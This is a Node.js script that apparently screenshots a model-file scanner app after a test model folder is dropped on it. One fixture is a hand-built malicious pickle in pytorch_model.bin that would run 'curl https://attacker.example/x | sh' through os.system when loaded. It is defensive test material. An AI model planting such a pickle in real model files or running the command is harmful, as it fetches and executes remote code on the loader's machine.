// Takes docs/screenshot.png: the app after a folder was dropped on it.
//   node tests/e2e/screenshot.mjs --dist dist --out docs/screenshot.png
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { parseArgs } from "node:util";
import { launch, openApp, waitFinished } from "./browser.mjs";
import { serve } from "./server.mjs";
import { safetensors, writeFileAt } from "./fixtures.mjs";

const { values } = parseArgs({
  options: {
    dist: { type: "string", default: "dist" },
    out: { type: "string", default: "docs/screenshot.png" },
  },
});
const server = await serve(resolve(values.dist));
const browser = await launch();
const scratch = await mkdtemp(join(tmpdir(), "modelvet-shot-"));
try {
  const root = join(scratch, "tiny-bert");
  await writeFileAt(join(root, "config.json"), Buffer.from('{"model_type": "bert", "hidden_size": 8}\n'));
  await writeFileAt(join(root, "model.safetensors"), safetensors("embeddings.weight", [0.1, 0.2, 0.3, 0.4]));
  await writeFileAt(join(root, "onnx", "weights.safetensors"), Buffer.from("not really tensors\n"));
  await writeFileAt(join(root, "README.md"), Buffer.from("# tiny-bert\n\nA test model.\n"));
  // A protocol-2 pickle that calls os.system when loaded (never loaded here).
  const cmd = "curl https://attacker.example/x | sh";
  await writeFileAt(
    join(root, "pytorch_model.bin"),
    Buffer.concat([
      Buffer.from("\x80\x02cos\nsystem\nq\x00X", "latin1"),
      Buffer.from([cmd.length, 0, 0, 0]),
      Buffer.from(cmd + "q\x01\x85q\x02Rq\x03.", "latin1"),
    ]),
  );

  const { page } = await openApp(browser.context, server.origin);
  await page.setViewportSize({ width: 1280, height: 900 });
  const cdp = await browser.context.newCDPSession(page);
  const box = await page.locator("#drop-zone").boundingBox();
  const at = { x: box.x + box.width / 2, y: box.y + box.height / 2 };
  const data = { items: [], files: [root], dragOperationsMask: 1 };
  for (const type of ["dragEnter", "dragOver", "drop"]) {
    await cdp.send("Input.dispatchDragEvent", { type, ...at, data });
  }
  await waitFinished(page, 5);
  await page.screenshot({ path: resolve(values.out), fullPage: true });
  console.log(`screenshot: ${values.out}`);
} finally {
  await browser.close();
  await server.close();
  await rm(scratch, { recursive: true, force: true });
}
